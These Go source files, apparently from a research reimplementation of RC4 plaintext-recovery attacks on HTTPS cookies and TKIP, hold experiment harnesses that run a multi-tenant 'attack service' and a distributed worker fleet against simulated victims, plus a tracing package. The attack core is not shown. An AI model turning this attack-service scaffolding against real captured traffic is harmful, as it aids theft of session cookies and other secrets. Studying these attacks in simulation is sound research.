	if fleetErr != nil && !errors.Is(fleetErr, online.ErrBudgetExhausted) {
		return Result{}, fleetErr
	}

	// The determinism contract: identical outcome and identical evidence.
	if (singleErr == nil) != (fleetErr == nil) ||
		singleRes.Rank != fleetRes.Rank || singleRes.Observed != fleetRes.Observed ||
		!bytes.Equal(singleRes.Plaintext, fleetRes.Plaintext) {
		return Result{}, fmt.Errorf("fleet outcome diverged from single process: single (rank=%d obs=%d err=%v) vs fleet (rank=%d obs=%d err=%v)",
			singleRes.Rank, singleRes.Observed, singleErr, fleetRes.Rank, fleetRes.Observed, fleetErr)
	}
	singleSnap, err := snap(single)
	if err != nil {
		return Result{}, err
	}
	fleetSnap, err := snap(pool)
	if err != nil {
		return Result{}, err
	}
	if !bytes.Equal(singleSnap, fleetSnap) {
		return Result{}, errors.New("fleet merged evidence is not bitwise-identical to the single-process run")
	}

	notes := "identical evidence and outcome (bitwise)"
	if singleErr == nil {
		saved := float64(p.Budget-singleRes.Observed) / netsim.HTTPSRequestsPerSecond / 3600
		notes += fmt.Sprintf("; early stop saved %.1f h of capture vs the fixed budget", saved)
	} else {
		notes += "; both runs exhausted the budget"
	}
	row := func(label string, res online.Result, d time.Duration) Row {
		return Row{Label: label, Values: []float64{
			float64(res.Observed) / (1 << 20),
			float64(res.Rank),
			float64(res.Rounds),
			d.Seconds(),
		}}
	}
	return Result{
		ID:      "Fleet §6",
		Title:   fmt.Sprintf("Distributed fleet vs single process (%d workers, %d lanes)", p.Workers, job.Lanes()),
		Columns: []string{"records x2^20", "rank", "rounds", "wall-clock s"},
		Rows: []Row{
			row("single-process", singleRes, singleTime),
			row(fmt.Sprintf("fleet-%dw", p.Workers), fleetRes, fleetTime),
		},
		Notes: notes,
	}, nil
}
