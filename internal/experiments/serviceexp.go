package experiments

import (
	"bytes"
	"encoding/hex"
	"errors"
	"fmt"
	"os"
	"time"

	"rc4break/internal/netsim"
	"rc4break/internal/online"
	"rc4break/internal/service"
)

// ServiceParams controls the attack-service-versus-solo comparison.
type ServiceParams struct {
	// Victims is the generated population size; default 8.
	Victims int
	// Tenants spreads the population across this many tenants; default 2.
	Tenants int
	// Capacity is the service scheduler's slot count; default 2.
	Capacity int
	// Seed drives the population generator; default 1.
	Seed int64
}

func (p ServiceParams) withDefaults() ServiceParams {
	if p.Victims == 0 {
		p.Victims = 8
	}
	if p.Tenants == 0 {
		p.Tenants = 2
	}
	if p.Capacity == 0 {
		p.Capacity = 2
	}
	if p.Seed == 0 {
		p.Seed = 1
	}
	return p
}

// serviceSpec maps a generated victim to a laptop-scale job spec: cookie
// victims run the §6 model-mode attack at paper budgets, TKIP victims the
// §5 attack against the shared demo-session model.
func serviceSpec(v netsim.SimVictim) service.JobSpec {
	if v.Attack == "tkip" {
		return service.JobSpec{Attack: "tkip", Mode: "model", Seed: v.Seed,
			Budget: 9 << 20, FirstDecode: 1 << 20, MaxCandidates: 1 << 12,
			TrainKeys: 1 << 12, CheckpointRounds: 8}
	}
	return service.JobSpec{Attack: "cookie", Mode: "model", Seed: v.Seed, Secret: v.Secret,
		Budget: 9 << 27, FirstDecode: 9 << 25, MaxCandidates: 1 << 10, CheckpointRounds: 8}
}

// ServiceVsSolo runs a generated victim population through the multi-tenant
// attack service — every job contending for shared scheduler slots — and
// re-runs each job's spec solo through online.Run. The two must agree
// bitwise (evidence bytes, rank, observations, rounds, oracle checks); any
// divergence is returned as an error, making this the experiment-level
// witness of the service's scheduler-transparency invariant. The table
// reports each job's records-to-first-success outcome, and the notes line
// shows how far the content-addressed store deduplicated shared payloads.
func ServiceVsSolo(p ServiceParams) (Result, error) {
	p = p.withDefaults()
	pop := netsim.Population(netsim.PopulationConfig{
		Victims: p.Victims, Tenants: p.Tenants, Seed: p.Seed, TKIPEvery: 4,
	})
	dir, err := os.MkdirTemp("", "attackd-exp-*")
	if err != nil {
		return Result{}, err
	}
	defer os.RemoveAll(dir)
	store, err := service.OpenStore(dir)
	if err != nil {
		return Result{}, err
	}
	srv, err := service.New(service.Config{Store: store, Capacity: p.Capacity})
	if err != nil {
		return Result{}, err
	}

	specs := make([]service.JobSpec, len(pop))
	ids := make([]string, len(pop))
	start := time.Now()
	for i, v := range pop {
		specs[i] = serviceSpec(v)
		st, err := srv.Submit(v.Tenant, specs[i])
		if err != nil {
			return Result{}, fmt.Errorf("submit victim %d: %w", i, err)
		}
		ids[i] = st.ID
	}
	srv.Wait()
	serviceElapsed := time.Since(start)

	res := Result{
		ID:      "Service",
		Title:   fmt.Sprintf("attack service vs solo online runs (%d jobs, %d tenants, capacity %d)", len(pop), p.Tenants, p.Capacity),
		Columns: []string{"observed", "rounds", "rank", "success", "bitwise"},
	}
	soloStart := time.Now()
	for i := range pop {
		st, err := srv.Status(ids[i])
		if err != nil {
			return Result{}, err
		}
		solo, snap, runErr := service.SoloRun(specs[i])
		if runErr != nil && !errors.Is(runErr, online.ErrBudgetExhausted) {
			return Result{}, fmt.Errorf("solo run %s: %w", ids[i], runErr)
		}
		ev, err := srv.EvidenceBytes(ids[i])
		if err != nil {
			return Result{}, fmt.Errorf("evidence %s: %w", ids[i], err)
		}
		identical := st.State == service.StateDone &&
			st.Success == (runErr == nil) && st.Rank == solo.Rank &&
			st.Observed == solo.Observed && st.Rounds == solo.Rounds &&
			st.Checks == solo.Checks && st.Plaintext == hex.EncodeToString(solo.Plaintext) &&
			bytes.Equal(ev, snap)
		if !identical {
			return Result{}, fmt.Errorf("job %s diverged from its solo run: service %+v vs solo rank=%d observed=%d rounds=%d checks=%d",
				ids[i], st, solo.Rank, solo.Observed, solo.Rounds, solo.Checks)
		}
		success := 0.0
		if st.Success {
			success = 1
		}
		res.Rows = append(res.Rows, Row{
			Label:  fmt.Sprintf("%s %s (%s/%s)", ids[i], pop[i].Tenant, st.Attack, st.Mode),
			Values: []float64{float64(st.Observed), float64(st.Rounds), float64(st.Rank), success, 1},
		})
	}
	soloElapsed := time.Since(soloStart)
	blobs, err := store.BlobCount()
	if err != nil {
		return Result{}, err
	}
	res.Notes = fmt.Sprintf("all %d jobs bitwise-identical to solo; store holds %d blobs (evidence + shared model); service %.1fs vs solo %.1fs",
		len(pop), blobs, serviceElapsed.Seconds(), soloElapsed.Seconds())
	return res, nil
}
