package obs

import (
	"encoding/json"
	"fmt"
	"io"
	"sort"
)

// ndjsonSpan is the NDJSON export shape: one JSON object per line per span,
// IDs in fixed-width hex so traces grep and join cleanly across processes.
type ndjsonSpan struct {
	Trace   string            `json:"trace"`
	Span    string            `json:"span"`
	Parent  string            `json:"parent,omitempty"`
	Name    string            `json:"name"`
	Proc    string            `json:"proc"`
	Track   int64             `json:"track"`
	StartNS int64             `json:"start_ns"`
	DurNS   int64             `json:"dur_ns"`
	Attrs   map[string]string `json:"attrs,omitempty"`
}

func hexID(v uint64) string { return fmt.Sprintf("%016x", v) }

func attrMap(attrs []Attr) map[string]string {
	if len(attrs) == 0 {
		return nil
	}
	m := make(map[string]string, len(attrs))
	for _, a := range attrs {
		m[a.Key] = a.Value()
	}
	return m
}

// WriteNDJSON writes one JSON object per record, newline-delimited, in
// deterministic order (start time, then span ID).
func WriteNDJSON(w io.Writer, recs []Record) error {
	recs = sortedByStart(recs)
	enc := json.NewEncoder(w)
	for _, r := range recs {
		line := ndjsonSpan{
			Trace:   hexID(r.Trace),
			Span:    hexID(r.Span),
			Name:    r.Name,
			Proc:    r.Proc,
			Track:   r.Track,
			StartNS: r.Start,
			DurNS:   r.Dur,
			Attrs:   attrMap(r.Attrs),
		}
		if r.Parent != 0 {
			line.Parent = hexID(r.Parent)
		}
		if err := enc.Encode(line); err != nil {
			return err
		}
	}
	return nil
}

// chromeEvent is one Chrome trace-event object. "X" complete events carry
// ts/dur in microseconds; "M" metadata events name the synthetic processes.
type chromeEvent struct {
	Name string            `json:"name"`
	Ph   string            `json:"ph"`
	PID  int               `json:"pid"`
	TID  int64             `json:"tid"`
	TS   float64           `json:"ts,omitempty"`
	Dur  float64           `json:"dur,omitempty"`
	Args map[string]string `json:"args,omitempty"`
}

// WriteChrome writes the records as a Chrome trace-event JSON array loadable
// in chrome://tracing and Perfetto. Each distinct Proc label becomes a
// synthetic process (named via a process_name metadata event) and each
// span's Track becomes the thread row, so a coordinator and its workers lay
// out as parallel process groups under one trace. Trace/span/parent IDs ride
// in args for cross-referencing with the NDJSON export.
func WriteChrome(w io.Writer, recs []Record) error {
	recs = sortedByStart(recs)

	procs := make(map[string]int)
	var procNames []string
	for _, r := range recs {
		if _, ok := procs[r.Proc]; !ok {
			procs[r.Proc] = 0
			procNames = append(procNames, r.Proc)
		}
	}
	sort.Strings(procNames)
	events := make([]chromeEvent, 0, len(recs)+len(procNames))
	for i, name := range procNames {
		procs[name] = i + 1
		events = append(events, chromeEvent{
			Name: "process_name",
			Ph:   "M",
			PID:  i + 1,
			Args: map[string]string{"name": name},
		})
	}

	for _, r := range recs {
		args := attrMap(r.Attrs)
		if args == nil {
			args = make(map[string]string, 3)
		}
		args["trace"] = hexID(r.Trace)
		args["span"] = hexID(r.Span)
		if r.Parent != 0 {
			args["parent"] = hexID(r.Parent)
		}
		events = append(events, chromeEvent{
			Name: r.Name,
			Ph:   "X",
			PID:  procs[r.Proc],
			TID:  r.Track,
			TS:   float64(r.Start) / 1e3,
			Dur:  float64(r.Dur) / 1e3,
			Args: args,
		})
	}

	enc := json.NewEncoder(w)
	return enc.Encode(struct {
		TraceEvents []chromeEvent `json:"traceEvents"`
	}{TraceEvents: events})
}

// sortedByStart returns a copy ordered by (Start, Span) so exports are
// stable regardless of fold/ring interleaving.
func sortedByStart(recs []Record) []Record {
	out := make([]Record, len(recs))
	copy(out, recs)
	sort.SliceStable(out, func(i, k int) bool {
		if out[i].Start != out[k].Start {
			return out[i].Start < out[k].Start
		}
		return out[i].Span < out[k].Span
	})
	return out
}
