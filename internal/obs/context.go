package obs

import "context"

type ctxKey struct{}

// ctxState is the pair a context carries: the journal to record into and the
// current span position to parent children under.
type ctxState struct {
	j      *Journal
	parent SpanContext
}

// NewContext returns ctx carrying j as the active journal. Instrumented code
// below this point records spans into j; a nil j is valid and leaves every
// downstream StartSpan on the one-nil-check disabled path.
func NewContext(ctx context.Context, j *Journal) context.Context {
	return context.WithValue(ctx, ctxKey{}, ctxState{j: j})
}

// WithParent returns ctx with the parenting position replaced — used when a
// span context arrived out-of-band (an RPC envelope, a job spec) rather than
// from an in-process parent span.
func WithParent(ctx context.Context, parent SpanContext) context.Context {
	st, _ := ctx.Value(ctxKey{}).(ctxState)
	st.parent = parent
	return context.WithValue(ctx, ctxKey{}, st)
}

// FromContext returns the journal and parenting position carried by ctx
// (nil/zero when tracing is off).
func FromContext(ctx context.Context) (*Journal, SpanContext) {
	st, _ := ctx.Value(ctxKey{}).(ctxState)
	return st.j, st.parent
}

// StartSpan opens a span parented under ctx's current position and returns a
// derived context under which children parent to the new span. With no
// journal in ctx it returns (ctx, nil) — the disabled path — and the nil
// span's methods are all no-ops.
func StartSpan(ctx context.Context, name string, attrs ...Attr) (context.Context, *Span) {
	st, _ := ctx.Value(ctxKey{}).(ctxState)
	if st.j == nil {
		return ctx, nil
	}
	s := st.j.Start(st.parent, name, attrs...)
	return context.WithValue(ctx, ctxKey{}, ctxState{j: st.j, parent: s.Context()}), s
}
