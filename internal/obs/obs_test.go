package obs

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
)

func TestNilJournalAndSpanAreNoOps(t *testing.T) {
	var j *Journal
	s := j.Start(SpanContext{}, "noop", Str("k", "v"))
	if s != nil {
		t.Fatalf("nil journal Start returned non-nil span")
	}
	// Every nil-span method must be callable.
	s.SetAttrs(Int("x", 1))
	s.SetTrack(3)
	if got := s.End(); got != 0 {
		t.Fatalf("nil span End = %v, want 0", got)
	}
	if s.Context().Valid() {
		t.Fatalf("nil span context reported valid")
	}
	if j.Snapshot() != nil || j.Drain() != nil {
		t.Fatalf("nil journal snapshot/drain returned records")
	}
	j.Fold([]Record{{Name: "x"}})
	if rec, drop := j.Stats(); rec != 0 || drop != 0 {
		t.Fatalf("nil journal stats = %d,%d", rec, drop)
	}
	if j.Proc() != "" {
		t.Fatalf("nil journal proc = %q", j.Proc())
	}
}

func TestSpanParentLinksAndTraceReuse(t *testing.T) {
	j := NewJournal("test", 16)
	root := j.Start(SpanContext{}, "root")
	rctx := root.Context()
	if !rctx.Valid() {
		t.Fatalf("root context invalid")
	}
	child := j.Start(rctx, "child")
	cctx := child.Context()
	if cctx.Trace != rctx.Trace {
		t.Fatalf("child trace %x != root trace %x", cctx.Trace, rctx.Trace)
	}
	if cctx.Span == rctx.Span {
		t.Fatalf("child reused root span ID")
	}
	child.End()
	root.End()

	recs := j.Snapshot()
	if len(recs) != 2 {
		t.Fatalf("got %d records, want 2", len(recs))
	}
	byName := map[string]Record{}
	for _, r := range recs {
		byName[r.Name] = r
	}
	if byName["root"].Parent != 0 {
		t.Fatalf("root has parent %x", byName["root"].Parent)
	}
	if byName["child"].Parent != byName["root"].Span {
		t.Fatalf("child parent %x != root span %x", byName["child"].Parent, byName["root"].Span)
	}

	// Trace-only parent (cross-process propagation with no span half) roots
	// a new span in the existing trace.
	foreign := j.Start(SpanContext{Trace: rctx.Trace}, "foreign")
	if got := foreign.Context().Trace; got != rctx.Trace {
		t.Fatalf("foreign trace %x, want %x", got, rctx.Trace)
	}
	foreign.End()
	last := j.Snapshot()[2]
	if last.Parent != 0 {
		t.Fatalf("trace-only parent produced parent link %x", last.Parent)
	}
}

func TestRingOverflowKeepsNewest(t *testing.T) {
	j := NewJournal("test", 4)
	for i := 0; i < 10; i++ {
		j.Start(SpanContext{}, fmt.Sprintf("s%d", i)).End()
	}
	recs := j.Snapshot()
	if len(recs) != 4 {
		t.Fatalf("got %d records, want 4", len(recs))
	}
	for i, r := range recs {
		want := fmt.Sprintf("s%d", 6+i)
		if r.Name != want {
			t.Fatalf("record %d = %q, want %q (oldest-first order)", i, r.Name, want)
		}
	}
	rec, drop := j.Stats()
	if rec != 10 || drop != 6 {
		t.Fatalf("stats = %d recorded, %d dropped; want 10, 6", rec, drop)
	}
}

func TestDrainClearsAndFoldPreservesProc(t *testing.T) {
	j := NewJournal("worker-1", 8)
	j.Start(SpanContext{}, "a").End()
	j.Start(SpanContext{}, "b").End()
	out := j.Drain()
	if len(out) != 2 {
		t.Fatalf("drain returned %d records, want 2", len(out))
	}
	if len(j.Snapshot()) != 0 {
		t.Fatalf("journal not empty after drain")
	}

	coord := NewJournal("coordinator", 8)
	coord.Start(SpanContext{}, "lease").End()
	coord.Fold(out)
	recs := coord.Snapshot()
	if len(recs) != 3 {
		t.Fatalf("got %d records after fold, want 3", len(recs))
	}
	procs := map[string]int{}
	for _, r := range recs {
		procs[r.Proc]++
	}
	if procs["worker-1"] != 2 || procs["coordinator"] != 1 {
		t.Fatalf("proc labels after fold = %v", procs)
	}
}

func TestDoubleEndRecordsOnce(t *testing.T) {
	j := NewJournal("test", 8)
	s := j.Start(SpanContext{}, "once")
	if d := s.End(); d < 0 {
		t.Fatalf("negative duration %v", d)
	}
	if d := s.End(); d != 0 {
		t.Fatalf("second End = %v, want 0", d)
	}
	if n := len(j.Snapshot()); n != 1 {
		t.Fatalf("double End produced %d records", n)
	}
}

func TestContextPropagation(t *testing.T) {
	j := NewJournal("proc", 16)
	ctx := NewContext(context.Background(), j)

	ctx1, parent := StartSpan(ctx, "outer", Int("n", 7))
	_, child := StartSpan(ctx1, "inner")
	if child.Context().Trace != parent.Context().Trace {
		t.Fatalf("inner span escaped outer trace")
	}
	child.End()
	parent.End()

	byName := map[string]Record{}
	for _, r := range j.Snapshot() {
		byName[r.Name] = r
	}
	if byName["inner"].Parent != byName["outer"].Span {
		t.Fatalf("ctx child not parented to outer span")
	}

	// Journal-less context: StartSpan returns the same ctx and a nil span.
	plain := context.Background()
	ctx2, s := StartSpan(plain, "off")
	if s != nil || ctx2 != plain {
		t.Fatalf("disabled StartSpan allocated (%v, %v)", ctx2, s)
	}

	// WithParent injects an out-of-band position (RPC envelope shape).
	remote := SpanContext{Trace: 0xabc, Span: 0xdef}
	_, s2 := StartSpan(WithParent(ctx, remote), "rpc")
	if got := s2.Context().Trace; got != remote.Trace {
		t.Fatalf("WithParent trace %x, want %x", got, remote.Trace)
	}
	s2.End()
	recs := j.Snapshot()
	last := recs[len(recs)-1]
	if last.Parent != uint64(remote.Span) {
		t.Fatalf("WithParent parent %x, want %x", last.Parent, remote.Span)
	}
}

func TestNDJSONExport(t *testing.T) {
	j := NewJournal("proc", 16)
	s := j.Start(SpanContext{}, "op", Str("mode", "tls"), Int("keys", 4096), U64("lane", 9), F64("frac", 0.5))
	s.SetTrack(2)
	s.End()

	var buf bytes.Buffer
	if err := WriteNDJSON(&buf, j.Snapshot()); err != nil {
		t.Fatalf("WriteNDJSON: %v", err)
	}
	sc := bufio.NewScanner(&buf)
	var lines int
	for sc.Scan() {
		lines++
		var m map[string]any
		if err := json.Unmarshal(sc.Bytes(), &m); err != nil {
			t.Fatalf("line %d not valid JSON: %v", lines, err)
		}
		attrs := m["attrs"].(map[string]any)
		if attrs["mode"] != "tls" || attrs["keys"] != "4096" || attrs["lane"] != "9" || attrs["frac"] != "0.5" {
			t.Fatalf("attrs rendered wrong: %v", attrs)
		}
		if len(m["trace"].(string)) != 16 || len(m["span"].(string)) != 16 {
			t.Fatalf("IDs not fixed-width hex: %v", m)
		}
		if m["track"].(float64) != 2 {
			t.Fatalf("track = %v", m["track"])
		}
	}
	if lines != 1 {
		t.Fatalf("got %d NDJSON lines, want 1", lines)
	}
}

func TestChromeExport(t *testing.T) {
	coord := NewJournal("coordinator", 16)
	root := coord.Start(SpanContext{}, "fleet.run")
	worker := NewJournal("worker-0", 16)
	ws := worker.Start(root.Context(), "fleet.collect")
	ws.SetTrack(3)
	ws.End()
	coord.Fold(worker.Drain())
	root.End()

	var buf bytes.Buffer
	if err := WriteChrome(&buf, coord.Snapshot()); err != nil {
		t.Fatalf("WriteChrome: %v", err)
	}
	var doc struct {
		TraceEvents []struct {
			Name string            `json:"name"`
			Ph   string            `json:"ph"`
			PID  int               `json:"pid"`
			TID  int64             `json:"tid"`
			Args map[string]string `json:"args"`
		} `json:"traceEvents"`
	}
	if err := json.Unmarshal(buf.Bytes(), &doc); err != nil {
		t.Fatalf("chrome export not valid JSON: %v", err)
	}

	var meta, complete int
	pidByProc := map[string]int{}
	var traces []string
	for _, ev := range doc.TraceEvents {
		switch ev.Ph {
		case "M":
			meta++
			if ev.Name != "process_name" {
				t.Fatalf("unexpected metadata event %q", ev.Name)
			}
			pidByProc[ev.Args["name"]] = ev.PID
		case "X":
			complete++
			traces = append(traces, ev.Args["trace"])
			if ev.Name == "fleet.collect" && ev.TID != 3 {
				t.Fatalf("collect tid = %d, want 3", ev.TID)
			}
		default:
			t.Fatalf("unexpected phase %q", ev.Ph)
		}
	}
	if meta != 2 || complete != 2 {
		t.Fatalf("got %d metadata + %d complete events, want 2 + 2", meta, complete)
	}
	if pidByProc["coordinator"] == pidByProc["worker-0"] {
		t.Fatalf("coordinator and worker share pid %d", pidByProc["coordinator"])
	}
	for _, tr := range traces[1:] {
		if tr != traces[0] {
			t.Fatalf("coordinator and worker spans under different traces: %v", traces)
		}
	}
}

func TestDebugHandlers(t *testing.T) {
	j := NewJournal("daemon", 16)
	j.Start(SpanContext{}, "op").End()
	mux := http.NewServeMux()
	MountDebug(mux, j)

	for _, path := range []string{"/debug/trace", "/debug/trace/chrome", "/debug/pprof/"} {
		req := httptest.NewRequest("GET", path, nil)
		rr := httptest.NewRecorder()
		mux.ServeHTTP(rr, req)
		if rr.Code != http.StatusOK {
			t.Fatalf("GET %s = %d", path, rr.Code)
		}
		if rr.Body.Len() == 0 {
			t.Fatalf("GET %s returned empty body", path)
		}
	}

	req := httptest.NewRequest("GET", "/debug/trace", nil)
	rr := httptest.NewRecorder()
	mux.ServeHTTP(rr, req)
	if !strings.Contains(rr.Body.String(), `"name":"op"`) {
		t.Fatalf("trace endpoint missing span: %s", rr.Body.String())
	}
}

func TestIDsNonZeroAndDistinct(t *testing.T) {
	seen := map[uint64]bool{}
	for i := 0; i < 10000; i++ {
		id := newID()
		if id == 0 {
			t.Fatalf("zero ID")
		}
		if seen[id] {
			t.Fatalf("duplicate ID %x after %d draws", id, i)
		}
		seen[id] = true
	}
}
