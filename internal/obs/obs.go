// Package obs is the repository's zero-dependency tracing layer: spans with
// 64-bit trace/span IDs, parent links and typed attributes, recorded into a
// fixed-capacity ring journal and exported as NDJSON or Chrome trace-event
// JSON (chrome://tracing / Perfetto loadable). The attacks are long-running
// pipelines — capture → evidence fold → decode rounds → candidate walk — and
// the feasibility argument is all about where the time goes; spans attach
// that timing to the shard/lane/round structure the engine, fleet and attack
// service actually execute.
//
// Span contexts propagate across process boundaries: the fleet lane-lease
// RPC carries the coordinator's lane-span context, workers parent their
// collect spans under it and piggyback the finished records on the evidence
// upload, so a whole coordinator/worker fleet renders as one flame graph
// under one trace ID. The service job spec carries an optional trace ID the
// same way.
//
// The hot-path contract: a disabled journal (a nil *Journal, which is what
// every instrumented call site sees when tracing is off) costs one nil check
// per call — no allocation, no clock read, no lock. dataset's
// BenchmarkEngineTracedVsUntraced pins the end-to-end cost. Tracing never
// feeds evidence, candidate ranks, or persisted attack state: journals
// record wall-clock timing only, and every output of an instrumented run is
// bitwise-identical with tracing on or off.
package obs

import (
	"crypto/rand"
	"encoding/binary"
	"math"
	"strconv"
	"sync"
	"sync/atomic"
	"time"
)

// TraceID identifies one trace tree — potentially spanning a coordinator
// and many workers, or a service job submitted by an external client.
type TraceID uint64

// SpanID identifies one span within a trace.
type SpanID uint64

// SpanContext is the propagatable position in a trace tree: enough to
// parent a child span, small enough to ride in an RPC envelope.
type SpanContext struct {
	Trace TraceID
	Span  SpanID
}

// Valid reports whether the context names a live span.
func (sc SpanContext) Valid() bool { return sc.Trace != 0 && sc.Span != 0 }

// AttrKind discriminates Attr payloads.
type AttrKind uint8

// Attr value kinds. Values are stored raw and rendered only at export, so
// building an Attr never formats.
const (
	KindStr AttrKind = iota
	KindInt
	KindUint
	KindFloat
)

// Attr is one key/value span attribute. Fields are exported so records
// piggyback through the gob-based fleet RPC unchanged.
type Attr struct {
	Key  string
	Kind AttrKind
	Str  string
	Num  uint64 // int64 / uint64 / float64-bits payload per Kind
}

// Str builds a string attribute.
func Str(k, v string) Attr { return Attr{Key: k, Kind: KindStr, Str: v} }

// Int builds an integer attribute.
func Int(k string, v int64) Attr { return Attr{Key: k, Kind: KindInt, Num: uint64(v)} }

// U64 builds an unsigned attribute.
func U64(k string, v uint64) Attr { return Attr{Key: k, Kind: KindUint, Num: v} }

// F64 builds a float attribute.
func F64(k string, v float64) Attr {
	return Attr{Key: k, Kind: KindFloat, Num: floatBits(v)}
}

// Value renders the attribute's value as a string (export time only).
func (a Attr) Value() string {
	switch a.Kind {
	case KindInt:
		return strconv.FormatInt(int64(a.Num), 10)
	case KindUint:
		return strconv.FormatUint(a.Num, 10)
	case KindFloat:
		return strconv.FormatFloat(floatFromBits(a.Num), 'g', -1, 64)
	}
	return a.Str
}

// Record is one completed span as it sits in the ring journal. All fields
// are exported: records cross the fleet RPC inside the Evidence message and
// must gob-encode.
type Record struct {
	Trace  uint64
	Span   uint64
	Parent uint64 // zero for root spans
	Name   string
	Proc   string // the journal's process/component label
	Track  int64  // rendering track (Chrome tid): shard, lane or job index
	Start  int64  // wall-clock start, unix nanoseconds
	Dur    int64  // nanoseconds
	Attrs  []Attr
}

// Journal is a fixed-capacity ring of completed spans. All methods are safe
// for concurrent use, and every method is a no-op on a nil receiver — nil is
// the disabled state every instrumented call site checks with one branch.
type Journal struct {
	proc string

	mu      sync.Mutex
	buf     []Record
	total   uint64 // records ever appended; buf index = (total-1) % cap
	dropped uint64
}

// DefaultCapacity is the journal ring size when NewJournal is given zero.
const DefaultCapacity = 1 << 14

// NewJournal returns a journal labelled with proc (the process/component
// name exported with every record) holding at most capacity completed spans;
// capacity <= 0 selects DefaultCapacity.
func NewJournal(proc string, capacity int) *Journal {
	if capacity <= 0 {
		capacity = DefaultCapacity
	}
	return &Journal{proc: proc, buf: make([]Record, 0, capacity)}
}

// Proc returns the journal's process label ("" for nil).
func (j *Journal) Proc() string {
	if j == nil {
		return ""
	}
	return j.proc
}

// Start opens a span under parent. An invalid parent starts a new root
// trace; a parent with only the Trace half set (no span) roots the span in
// that existing trace — the shape cross-process propagation produces when
// only a trace ID was carried. Returns nil when the journal is nil.
func (j *Journal) Start(parent SpanContext, name string, attrs ...Attr) *Span {
	if j == nil {
		return nil
	}
	trace := parent.Trace
	if trace == 0 {
		trace = TraceID(newID())
	}
	s := &Span{
		j:     j,
		start: time.Now(),
		rec: Record{
			Trace:  uint64(trace),
			Span:   newID(),
			Parent: uint64(parent.Span),
			Name:   name,
			Proc:   j.proc,
			Attrs:  attrs,
		},
	}
	s.rec.Start = s.start.UnixNano()
	return s
}

// append records one completed span, overwriting the oldest when full.
func (j *Journal) append(rec Record) {
	j.mu.Lock()
	if len(j.buf) < cap(j.buf) {
		j.buf = append(j.buf, rec)
	} else {
		j.buf[j.total%uint64(cap(j.buf))] = rec
		j.dropped++
	}
	j.total++
	j.mu.Unlock()
}

// Fold appends foreign records — spans a worker shipped alongside its lane
// upload — into the ring as-is, preserving their Proc labels.
func (j *Journal) Fold(recs []Record) {
	if j == nil || len(recs) == 0 {
		return
	}
	for _, r := range recs {
		j.append(r)
	}
}

// Snapshot copies the journal's records, oldest first.
func (j *Journal) Snapshot() []Record {
	if j == nil {
		return nil
	}
	j.mu.Lock()
	defer j.mu.Unlock()
	return j.copyLocked()
}

// Drain copies the journal's records, oldest first, and clears the ring —
// the worker-side handoff before piggybacking records on an upload.
func (j *Journal) Drain() []Record {
	if j == nil {
		return nil
	}
	j.mu.Lock()
	defer j.mu.Unlock()
	out := j.copyLocked()
	j.buf = j.buf[:0]
	j.total = 0
	return out
}

func (j *Journal) copyLocked() []Record {
	out := make([]Record, 0, len(j.buf))
	if len(j.buf) == cap(j.buf) && j.total > uint64(len(j.buf)) {
		head := j.total % uint64(cap(j.buf))
		out = append(out, j.buf[head:]...)
		out = append(out, j.buf[:head]...)
	} else {
		out = append(out, j.buf...)
	}
	return out
}

// Stats reports how many spans were ever recorded and how many the ring has
// overwritten.
func (j *Journal) Stats() (recorded, dropped uint64) {
	if j == nil {
		return 0, 0
	}
	j.mu.Lock()
	defer j.mu.Unlock()
	return j.total, j.dropped
}

// Span is one in-flight operation. Methods are safe on a nil receiver (the
// disabled path) but not for concurrent use on the same span.
type Span struct {
	j     *Journal
	start time.Time
	done  bool
	rec   Record
}

// Context returns the span's propagatable context (zero for nil).
func (s *Span) Context() SpanContext {
	if s == nil {
		return SpanContext{}
	}
	return SpanContext{Trace: TraceID(s.rec.Trace), Span: SpanID(s.rec.Span)}
}

// SetAttrs appends attributes to the span.
func (s *Span) SetAttrs(attrs ...Attr) {
	if s == nil {
		return
	}
	s.rec.Attrs = append(s.rec.Attrs, attrs...)
}

// SetTrack assigns the span's rendering track — the Chrome trace-event tid,
// used to lay concurrent siblings (shards, lanes, jobs) on separate rows.
func (s *Span) SetTrack(t int64) {
	if s == nil {
		return
	}
	s.rec.Track = t
}

// End completes the span, appends it to the journal, and returns its
// elapsed wall-clock time (zero for nil or double-End) — the duration
// callers feed latency histograms without a second clock read.
func (s *Span) End() time.Duration {
	if s == nil || s.done {
		return 0
	}
	s.done = true
	d := time.Since(s.start)
	s.rec.Dur = int64(d)
	s.j.append(s.rec)
	return d
}

// idState drives span/trace ID generation: a per-process random base mixed
// with an atomic counter through splitmix64, so IDs are unique within a
// process and collide across processes with probability ~2^-64 per pair.
var idState struct {
	base uint64
	ctr  atomic.Uint64
}

func init() {
	var b [8]byte
	if _, err := rand.Read(b[:]); err != nil {
		// Fall back to the clock; uniqueness within the process still holds
		// via the counter.
		binary.LittleEndian.PutUint64(b[:], uint64(time.Now().UnixNano()))
	}
	idState.base = binary.LittleEndian.Uint64(b[:])
}

// newID returns a nonzero 64-bit ID.
func newID() uint64 {
	for {
		x := idState.base + idState.ctr.Add(1)
		// splitmix64 finalizer.
		x ^= x >> 30
		x *= 0xbf58476d1ce4e5b9
		x ^= x >> 27
		x *= 0x94d049bb133111eb
		x ^= x >> 31
		if x != 0 {
			return x
		}
	}
}

func floatBits(f float64) uint64     { return math.Float64bits(f) }
func floatFromBits(b uint64) float64 { return math.Float64frombits(b) }
