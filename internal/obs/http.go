package obs

import (
	"net/http"
	"net/http/pprof"
)

// TraceHandler serves the journal's current contents as NDJSON — the
// GET /debug/trace surface on both daemons.
func TraceHandler(j *Journal) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/x-ndjson")
		_ = WriteNDJSON(w, j.Snapshot())
	})
}

// ChromeHandler serves the journal as Chrome trace-event JSON — save the
// response and load it in chrome://tracing or https://ui.perfetto.dev.
func ChromeHandler(j *Journal) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.Header().Set("Content-Disposition", `attachment; filename="trace.json"`)
		_ = WriteChrome(w, j.Snapshot())
	})
}

// MountDebug registers the live debug surface on mux: /debug/trace (NDJSON),
// /debug/trace/chrome (trace-event JSON), and the net/http/pprof handlers
// under /debug/pprof/. The pprof handlers are registered explicitly rather
// than via the package's DefaultServeMux side effect, so daemons using their
// own mux get them too.
func MountDebug(mux *http.ServeMux, j *Journal) {
	mux.Handle("GET /debug/trace", TraceHandler(j))
